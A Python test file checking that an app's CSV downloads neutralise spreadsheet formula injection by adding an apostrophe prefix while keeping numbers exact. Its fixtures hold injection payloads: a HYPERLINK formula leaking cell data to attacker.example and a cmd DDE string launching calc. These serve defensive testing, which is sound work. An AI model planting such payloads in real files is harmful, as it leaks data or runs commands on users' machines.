"""CSV downloads open safely in a spreadsheet: formula-like text is prefixed with ', numbers are not."""

from __future__ import annotations

import csv
import io

import numpy as np

from tests.weights import random_weights
from vae.config import DataConfig, ModelConfig
from vae.data import spreadsheet
from vae.data.build import load_csv
from vae.data.dataset import dataset_frame, make_dataset, to_csv_bytes
from vae.storage.bundle_save import decoded_grid_csv

LINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
LABELS = np.array([LINK, "+1+2", "-3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\tTAB", "setosa"] * 5, dtype=object)


def rows_of(payload: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(payload.decode("utf-8"))))


def hostile_dataset():
    values = np.column_stack([np.linspace(-3.5, 2.0, 30), np.linspace(5.0, -1.25, 30)])
    config = DataConfig(source="upload", preset="upload", n_samples=30, noise=0.0, label_column="@kind")
    return make_dataset(values, (LINK, "-minus"), config, labels=LABELS)


def test_the_data_download_prefixes_formula_text_and_keeps_numbers():
    dataset = hostile_dataset()
    rows = rows_of(spreadsheet.csv_bytes(dataset_frame(dataset)))
    assert rows[0] == ["'" + LINK, "'-minus", "'@kind"]
    labels = [row[2] for row in rows[1:7]]
    assert labels == ["'" + LINK, "'+1+2", "'-3+cmd|' /C calc'!A0", "'@SUM(A1:A9)", "'\tTAB", "setosa"]
    numbers = np.array([[float(row[0]), float(row[1])] for row in rows[1:]])
    np.testing.assert_array_equal(numbers, dataset.values)  # -3.5 stays a number, exactly
    assert rows[1][0] == "-3.5"


def test_the_bundle_csv_stays_exact_for_the_app():
    dataset = hostile_dataset()
    back = load_csv(to_csv_bytes(dataset), columns=[LINK, "-minus"], label_column="@kind")
    assert back.columns == (LINK, "-minus") and list(back.labels) == list(LABELS)


def test_the_decoded_grid_download_prefixes_formula_column_names():
    dataset = hostile_dataset()
    weights = random_weights(ModelConfig(encoder_units=(4,), decoder_units=(4,)))
    rows = rows_of(decoded_grid_csv(weights, dataset, steps=3))
    assert rows[0] == ["z1", "z2", "'" + LINK, "'-minus"]
    assert float(rows[1][0]) == -3.0  # numbers unchanged


def test_safe_cell_leaves_other_values_alone():
    assert spreadsheet.safe_cell("plain text") == "plain text"
    assert spreadsheet.safe_cell(-1.5) == -1.5
    assert spreadsheet.safe_cell("=1") == "'=1"
